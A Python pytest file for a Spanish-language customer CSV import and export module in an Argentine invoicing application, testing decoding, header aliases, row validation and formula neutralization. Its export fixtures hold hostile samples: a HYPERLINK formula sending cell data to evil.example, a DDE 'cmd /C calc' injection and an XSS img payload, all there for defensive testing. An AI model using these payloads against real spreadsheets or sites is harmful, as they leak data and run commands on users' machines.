import csv
import io
from dataclasses import dataclass

import pytest

from arca.codes import DOCUMENT_TYPES, RECEIVER_CONDITIONS
from arca.cuit import compute_check_digit, format_cuit
from blueprints.customers.csv_io import (
    COLUMNS,
    MAX_BYTES,
    MAX_ROWS,
    CsvRefused,
    ImportPlan,
    ParsedFile,
    RowProblem,
    decode_csv,
    detect_delimiter,
    export_header,
    export_rows,
    neutralize,
    read_csv,
    validate_rows,
)
from blueprints.customers.rules import CustomerData, CustomerFields
from core.errors import ValidationFailed

CONDITIONS = {id_: condition.description for id_, condition in RECEIVER_CONDITIONS.items()}
HEADER = "tipo_documento;numero_documento;razon_social;condicion_iva"


def plan_for(text: str) -> ImportPlan:
    return validate_rows(read_csv(text), DOCUMENT_TYPES, CONDITIONS)


def refusal(data: bytes | str) -> CsvRefused:
    with pytest.raises(CsvRefused) as caught:
        if isinstance(data, bytes):
            read_csv(decode_csv(data))
        else:
            read_csv(data)
    assert caught.value.field == "file"
    return caught.value


def valid_cuit(n: int) -> str:
    """The n-th valid CUIT under prefix 20 (skipping numbers whose check digit would be 10)."""
    found = 0
    for number in range(10_000_000, 99_999_999):
        ten = f"20{number:08d}"
        digit = compute_check_digit(ten)
        if digit is None:
            continue
        if found == n:
            return ten + str(digit)
        found += 1
    raise AssertionError("unreachable")


# --- Decoding ----------------------------------------------------------------------------------


def test_utf8_with_bom_and_commas() -> None:
    data = "\ufeff" + HEADER.replace(";", ",") + "\r\n80,20111111112,Pérez,1\r\n"
    text = decode_csv(data.encode("utf-8"))
    assert text == (
        "tipo_documento,numero_documento,razon_social,condicion_iva\n80,20111111112,Pérez,1\n"
    )
    parsed = read_csv(text)
    assert parsed.delimiter == ","
    assert parsed.headers[0] == "tipo_documento"
    assert parsed.rows[0].row == 2
    assert parsed.rows[0].fields == CustomerFields("80", "20111111112", "Pérez", "1")


def test_windows_1252_with_semicolons_and_accents() -> None:
    text = (
        "Tipo de documento;Número de documento;Razón social;Condición frente al IVA\r\n"
        "DNI;30.123.456;Pérez, José;Consumidor Final\r\n"
        "CUIT;30-71234567-1;Ñandú S.A.;IVA Responsable Inscripto\r\n"
    )
    data = text.encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # the case being tested: not UTF-8
    parsed = read_csv(decode_csv(data))
    assert parsed.delimiter == ";"
    assert parsed.headers == (
        "Tipo de documento",
        "Número de documento",
        "Razón social",
        "Condición frente al IVA",
    )
    assert [row.fields.legal_name for row in parsed.rows] == ["Pérez, José", "Ñandú S.A."]
    plan = validate_rows(parsed, DOCUMENT_TYPES, CONDITIONS)
    assert plan.problems == []
    assert [row.customer for row in plan.valid] == [
        CustomerData(96, "30123456", "Pérez, José", 5),
        CustomerData(80, "30712345671", "Ñandú S.A.", 1),
    ]


def test_newlines_are_normalized() -> None:
    assert decode_csv(b"a;b\r\nc;d\re;f\n") == "a;b\nc;d\ne;f\n"


# --- Headers and cells -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Tipo Doc", "doc_type"),
        ("TIPO_DE_DOCUMENTO", "doc_type"),
        ("Document type", "doc_type"),
        ("  Número   de documento ", "doc_number"),
        ("numero de documento", "doc_number"),
        ("CUIT/DNI", "doc_number"),
        ("Nro_Documento", "doc_number"),
        ("Razón Social", "legal_name"),
        ("RAZON_SOCIAL", "legal_name"),
        ("Cliente", "legal_name"),
        ("Condición frente al IVA", "iva_condition"),
        ("condicion frente al iva", "iva_condition"),
        ("IVA", "iva_condition"),
        ("E-mail", "emails"),
        ("Correo", "emails"),
        ("Dirección", "address"),
        ("DIRECCION", "address"),
        ("Teléfono", "phone"),
        ("Tel", "phone"),
        ("Observaciones", "notes"),
        ("Plazo de pago", "payment_terms_days"),
        ("plazo_pago_dias", "payment_terms_days"),
    ],
)
def test_header_aliases(header: str, field: str) -> None:
    headers = {column.field: column.header for column in COLUMNS if column.required}
    headers[field] = header
    parsed = read_csv(";".join(headers.values()) + "\n" + ";".join(headers) + "\n")
    assert parsed.column_headers[field] == header.strip()
    assert getattr(parsed.rows[0].fields, field) == field


def test_optional_alias_fills_its_field_and_unknown_columns_are_reported() -> None:
    parsed = read_csv(
        f"Código interno;{HEADER};Teléfono;Vendedor;\n"
        "A-1;80;20111111112;Pérez;1;+54 11 4444-5555;Juan;\n"
    )
    assert parsed.ignored_columns == ("Código interno", "Vendedor")
    assert parsed.rows[0].fields.phone == "+54 11 4444-5555"
    assert parsed.rows[0].fields.legal_name == "Pérez"
    assert parsed.rows[0].fields.emails == ""


def test_quoted_cells_keep_separators_quotes_and_newlines() -> None:
    text = (
        f"{HEADER};domicilio;notas\n"
        '80;20111111112;"Pérez; Hijos";1;"Av. Corrientes 1234;\npiso 3";"dice ""hola""\nlínea 2"\n'
        "96;30123456;García;5\n"
    )
    parsed = read_csv(text)
    first, second = parsed.rows
    assert first.fields.legal_name == "Pérez; Hijos"
    assert first.fields.address == "Av. Corrientes 1234;\npiso 3"
    assert first.fields.notes == 'dice "hola"\nlínea 2'
    # A spreadsheet shows a cell with newlines as one row: numbering follows records, not lines.
    assert [first.row, second.row] == [2, 3]
    customer = validate_rows(parsed, DOCUMENT_TYPES, CONDITIONS).valid[0].customer
    assert customer.address == "Av. Corrientes 1234; piso 3"  # one line: whitespace folded
    assert customer.notes == 'dice "hola"\nlínea 2'


def test_blank_rows_are_skipped_but_counted() -> None:
    text = f"\n;;;\n{HEADER}\n80;20111111112;Pérez;1\n\n  ;  ;;\n96;30123456;García;5\n\n"
    parsed = read_csv(text)
    assert [row.row for row in parsed.rows] == [4, 7]
    assert [row.fields.legal_name for row in parsed.rows] == ["Pérez", "García"]


def test_short_and_long_rows() -> None:
    parsed = read_csv(
        f"{HEADER};emails;notas\n80;20111111112\n96;30123456;García;5;;nota;extra;x\n"
    )
    short, long = parsed.rows
    assert short.fields == CustomerFields("80", "20111111112", "", "", "", "", "", "", "")
    assert long.fields == CustomerFields("96", "30123456", "García", "5", notes="nota")


def test_cells_are_stripped() -> None:
    parsed = read_csv(f"{HEADER}\n 80 ;  20111111112\t; Pérez ; 1 \n")
    assert parsed.rows[0].fields == CustomerFields("80", "20111111112", "Pérez", "1")


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("a;b;c\n1,2,3,4,5", ";"),
        ("a,b,c\n1;2", ","),
        ("a\tb\tc", "\t"),
        ("a,b;c", ";"),  # a tie prefers ";"
        ('"a;b;c",d,e', ","),  # separators inside quotes do not count
        ('"x ""a;b"" y",d', ","),
        ("\n;;;;\na,b,c", ","),  # the header is the first non-blank line
        ("nombre", ";"),
    ],
)
def test_detect_delimiter(text: str, delimiter: str) -> None:
    assert detect_delimiter(text) == delimiter


def test_tab_separated_file() -> None:
    parsed = read_csv(HEADER.replace(";", "\t") + "\n80\t20111111112\tPérez, Juan; hijo\t1\n")
    assert parsed.delimiter == "\t"
    assert parsed.rows[0].fields.legal_name == "Pérez, Juan; hijo"


def test_excel_sep_line_sets_the_delimiter_and_is_not_a_row() -> None:
    parsed = read_csv(f"sep=,\n{HEADER.replace(';', ',')},notas\n80,20111111112,Pérez,1,a;b\n")
    assert parsed.delimiter == ","
    assert parsed.headers[0] == "tipo_documento"
    assert parsed.rows[0].row == 2
    assert parsed.rows[0].fields.notes == "a;b"


# --- Whole-file refusals -----------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"  \r\n\r\n", b"\n;;;\n"])
def test_empty_file(data: bytes) -> None:
    error = refusal(data)
    assert error.message == "El archivo está vacío."
    assert isinstance(error, ValidationFailed)
    assert error.status == 422


@pytest.mark.parametrize(
    "data",
    [
        f"{HEADER}\n80;20111111112;P\x00rez;1\n".encode(),
        "tipo;número".encode("utf-16"),  # UTF-16 is full of NULs
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"tipo;\x81\x8d\x8f\x90\x9d",  # not UTF-8, and undefined in Windows-1252
    ],
)
def test_binary_file(data: bytes) -> None:
    assert refusal(data).message == "El archivo no es un CSV de texto. Subí un archivo .csv."


@pytest.mark.parametrize(
    "data", [b"PK\x03\x04\x14\x00\x06\x00", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00"]
)
def test_excel_workbook(data: bytes) -> None:
    assert refusal(data).message.startswith("Es una planilla de Excel, no un CSV.")


def test_too_large() -> None:
    data = (HEADER + "\n").encode() + b"x" * (MAX_BYTES - len(HEADER))
    assert len(data) == MAX_BYTES + 1
    message = refusal(data).message
    assert message == "El archivo pesa más de 10 MB. Dividilo en archivos más chicos."
    decode_csv(data[:-1])  # exactly MAX_BYTES is accepted


def test_too_many_rows() -> None:
    row = "80;20111111112;Pérez;1\n"
    assert len(read_csv(HEADER + "\n\n" + row * MAX_ROWS).rows) == MAX_ROWS
    message = refusal(HEADER + "\n" + row * (MAX_ROWS + 1)).message
    assert message == "El archivo tiene más de 50000 filas. Dividilo en archivos más chicos."


@pytest.mark.parametrize(
    "text",
    [
        "80;20111111112;Pérez;1\n96;30123456;García;5\n",
        f"Clientes al 31/12;;;\n{HEADER}\n80;20111111112;Pérez;1\n",  # a title row first
    ],
)
def test_no_header_row(text: str) -> None:
    message = refusal(text).message
    assert message == (
        "La primera fila tiene que tener los nombres de las columnas (por ejemplo: "
        "tipo_documento, numero_documento, razon_social, condicion_iva)."
    )


def test_missing_required_columns_are_named() -> None:
    message = refusal("Tipo de documento;Razón social;Email\n80;Pérez;a@b.com\n").message
    assert message == "Faltan las columnas: numero_documento, condicion_iva."
    assert refusal("tipo;nombre\n").message == (
        "Faltan las columnas: numero_documento, condicion_iva."
    )
    assert refusal("tipo_documento;cuit;nombre\n").message == "Falta la columna condicion_iva."


@pytest.mark.parametrize(
    ("headers", "message"),
    [
        (
            f"{HEADER};  CUIT ",
            "La columna numero_documento está dos veces («numero_documento» y «CUIT»). "
            "Dejá una sola.",
        ),
        (
            f"{HEADER};email;Correo",
            "La columna emails está dos veces («email» y «Correo»). Dejá una sola.",
        ),
    ],
)
def test_repeated_column(headers: str, message: str) -> None:
    assert refusal(headers + "\n").message == message


def test_unreadable_quoting() -> None:
    text = f'{HEADER}\n80;20111111112;"Pérez;1\n' + "x" * (csv.field_size_limit() + 1) + "\n"
    assert refusal(text).message == (
        "No se pudo leer el archivo a partir de la fila 2. Revisá que las comillas estén cerradas."
    )


# --- Checking rows -----------------------------------------------------------------------------

BIG_HEADER = "Razón Social;CUIT;Tipo de documento;Condición frente al IVA;Email"
CUIT_MESSAGE = "El CUIT 20-11111111-3 no es válido: el dígito verificador no coincide."


def big_file() -> tuple[str, list[RowProblem]]:
    """200 data rows (spreadsheet rows 2-201), alternately RI with CUIT and consumers with DNI,
    with known bad rows and the problems they must give."""
    lines = [BIG_HEADER]
    for row in range(2, 202):
        if row % 2:
            lines.append(f"Cliente {row};{30_000_000 + row};DNI;Consumidor Final;")
        else:
            lines.append(f"Empresa {row};{valid_cuit(row)};80;1;c{row}@empresa.com.ar")
    bad = {
        10: "Empresa 10;20111111113;80;1;",
        25: "Cliente 25;999999;96;5;",
        40: "Cliente 40;30000040;96;Monotributo Premium;",
        55: "Cliente 55;30000055;96;IVA Responsable Inscripto;",
        70: ";30000070;96;5;",
        85: "Cliente 85;30000085;96;5;juan@",
        100: f"Otra razón social;{format_cuit(valid_cuit(2))};80;1;",  # row 2's, with dashes
        120: ";20111111113;CUIT;1;mal",
        # Anonymous consumers share "document" 99/0 and are never duplicates.
        150: "Consumidor 150;0;99;5;",
        151: "Consumidor 151;0;Doc. (Otro);Consumidor Final;",
    }
    for row, line in bad.items():
        lines[row - 1] = line
    expected = [
        RowProblem(10, "CUIT", CUIT_MESSAGE),
        RowProblem(
            25, "CUIT", "El DNI es un número de 7 u 8 cifras (entre 1.000.000 y 99.999.999)."
        ),
        RowProblem(
            40,
            "Condición frente al IVA",
            "«Monotributo Premium» no es una condición frente al IVA de ARCA.",
        ),
        RowProblem(
            55,
            "Tipo de documento",
            "Un cliente con esa condición frente al IVA se identifica con su CUIT.",
        ),
        RowProblem(70, "Razón Social", "Escribí el nombre o la razón social."),
        RowProblem(85, "Email", "«juan@» no es un email válido."),
        RowProblem(100, "CUIT", "Documento repetido: ya está en la fila 2."),
        RowProblem(120, "Razón Social", "Escribí el nombre o la razón social."),
        RowProblem(120, "CUIT", CUIT_MESSAGE),
        RowProblem(120, "Email", "«mal» no es un email válido."),
    ]
    return "\r\n".join(lines) + "\r\n", expected


def test_a_file_with_known_bad_rows() -> None:
    text, expected = big_file()
    plan = validate_rows(read_csv(decode_csv(text.encode("cp1252"))), DOCUMENT_TYPES, CONDITIONS)
    assert plan.problems == expected
    assert plan.total_rows == 200
    assert plan.bad_rows == 8
    assert len(plan.valid) == 192
    assert [row.row for row in plan.valid] == [
        row for row in range(2, 202) if row not in {10, 25, 40, 55, 70, 85, 100, 120}
    ]
    by_row = {row.row: row.customer for row in plan.valid}
    assert by_row[2] == CustomerData(80, valid_cuit(2), "Empresa 2", 1, ("c2@empresa.com.ar",))
    assert by_row[3] == CustomerData(96, "30000003", "Cliente 3", 5)
    assert by_row[150] == CustomerData(99, "0", "Consumidor 150", 5)
    assert by_row[151] == CustomerData(99, "0", "Consumidor 151", 5)


def test_duplicates_compare_normalized_documents() -> None:
    plan = plan_for(
        f"{HEADER}\n"
        "80;20111111112;Pérez;1\n"
        "DNI;30.123.456;A;5\n"
        "80;20-11111111-2;Otro;1\n"  # row 2's CUIT, written otherwise
        "96;30123456;B;5\n"  # row 3's DNI
    )
    assert plan.problems == [
        RowProblem(4, "numero_documento", "Documento repetido: ya está en la fila 2."),
        RowProblem(5, "numero_documento", "Documento repetido: ya está en la fila 3."),
    ]
    assert [row.row for row in plan.valid] == [2, 3]


def test_a_document_first_seen_in_a_bad_row_is_not_a_duplicate() -> None:
    plan = plan_for(f"{HEADER}\n80;20111111112;;1\n80;20111111112;Pérez;1\n80;20111111112;X;1\n")
    assert plan.problems == [
        RowProblem(2, "razon_social", "Escribí el nombre o la razón social."),
        RowProblem(4, "numero_documento", "Documento repetido: ya está en la fila 3."),
    ]
    assert plan.bad_rows == 2
    assert [row.row for row in plan.valid] == [3]


def test_problems_of_a_hand_built_file_use_canonical_headers() -> None:
    parsed = ParsedFile(";", (), (), [read_csv(f"{HEADER}\n80;1;;1\n").rows[0]])
    plan = validate_rows(parsed, DOCUMENT_TYPES, CONDITIONS)
    assert [(p.row, p.column) for p in plan.problems] == [
        (2, "numero_documento"),
        (2, "razon_social"),
    ]


# --- Export ------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralize_formula_prefixes(prefix: str) -> None:
    assert neutralize(prefix + "1+2") == "'" + prefix + "1+2"


@pytest.mark.parametrize("cell", ["", "Pérez", "a=b", "1-2", "'=ya neutralizada", " =x", "%x"])
def test_neutralize_leaves_other_cells(cell: str) -> None:
    assert neutralize(cell) == cell


@dataclass
class CustomerRow:
    """Looks like the `Customer` model: emails comma-separated, optional columns None."""

    doc_type: int
    doc_number: str
    legal_name: str
    iva_condition: int
    emails: str = ""
    address: str | None = None
    phone: str | None = None
    notes: str | None = None
    payment_terms_days: int | None = None


def export_cells(customers: list[CustomerRow] | list[CustomerData]) -> list[list[str]]:
    text = "".join(export_rows(customers))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


HOSTILE = CustomerRow(
    80,
    "30712345671",
    '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
    1,
    emails="pagos@acme.com.ar,admin@acme.com.ar",
    address="@SUM(1+1)*cmd|' /C calc'!A0",
    phone="+54 11 4444-5555",
    notes="-5",
    payment_terms_days=30,
)
XSS = CustomerRow(96, "30123456", "<img src=x onerror=alert(1)>", 5, notes='a;b\nc "d"')


def test_export_format() -> None:
    """Each code (what the import reads) is followed by its name in Spanish (for people)."""
    text = "".join(export_rows([HOSTILE, XSS]))
    header = ";".join(export_header())
    assert header == (
        "tipo_documento;tipo_documento_nombre;numero_documento;razon_social;condicion_iva;"
        "condicion_iva_nombre;emails;domicilio;telefono;notas;plazo_pago_dias"
    )
    assert text.startswith("\ufeff" + header + "\r\n")
    assert text.endswith('"a;b\nc ""d""";\r\n')
    assert text.count("\r\n") == 3


def test_export_neutralizes_formulas_and_leaves_html_alone() -> None:
    header, hostile, xss = export_cells([HOSTILE, XSS])
    assert header[0] == "tipo_documento"
    assert hostile == [
        "80",
        "CUIT",
        "30712345671",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
        "1",
        "IVA Responsable Inscripto",
        "pagos@acme.com.ar, admin@acme.com.ar",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+54 11 4444-5555",
        "'-5",
        "30",
    ]
    assert xss == [
        "96",
        "DNI",
        "30123456",
        "<img src=x onerror=alert(1)>",
        "5",
        "Consumidor Final",
        "",
        "",
        "",
        'a;b\nc "d"',
        "",
    ]


def test_export_chunks() -> None:
    customers = [CustomerData(96, str(10_000_000 + n), f"C{n}", 5) for n in range(1201)]
    chunks = list(export_rows(customers))
    assert [chunk.count("\r\n") for chunk in chunks] == [1, 500, 500, 201]
    assert list(export_rows([])) == ["\ufeff" + ";".join(export_header()) + "\r\n"]


def round_trip(customers: list[CustomerRow] | list[CustomerData]) -> ImportPlan:
    data = "".join(export_rows(customers)).encode("utf-8")
    return validate_rows(read_csv(decode_csv(data)), DOCUMENT_TYPES, CONDITIONS)


def test_round_trip() -> None:
    customers = [
        CustomerData(
            80,
            "30712345671",
            "Ñandú S.A.",
            1,
            ("pagos@nandu.com.ar", "ventas@nandu.com.ar"),
            "Av. Corrientes 1234; piso 3",
            "011 4444-5555",
            'Llamar "antes".\nSolo por la tarde; gracias',
            30,
        ),
        CustomerData(80, "20276543211", "Pérez, José", 6, payment_terms_days=0),
        CustomerData(96, "30123456", "García", 5, ("garcia@correo.com.ar",)),
        CustomerData(94, "AB123456", "John Smith", 9, notes="Pasaporte"),
        CustomerData(99, "0", "Consumidor final", 5),
        CustomerData(99, "0", "Otro consumidor", 5),
        CustomerData(80, "33693450239", "<img src=x onerror=alert(1)>", 4),
    ]
    plan = round_trip(customers)
    assert plan.problems == []
    assert [row.customer for row in plan.valid] == customers
    assert [row.row for row in plan.valid] == list(range(2, 9))


def test_round_trip_keeps_the_neutralizing_quote() -> None:
    plan = round_trip([HOSTILE, XSS])
    assert plan.problems == []
    assert [row.customer for row in plan.valid] == [
        CustomerData(
            80,
            "30712345671",
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
            1,
            ("pagos@acme.com.ar", "admin@acme.com.ar"),
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+54 11 4444-5555",
            "'-5",
            30,
        ),
        CustomerData(96, "30123456", "<img src=x onerror=alert(1)>", 5, notes='a;b\nc "d"'),
    ]
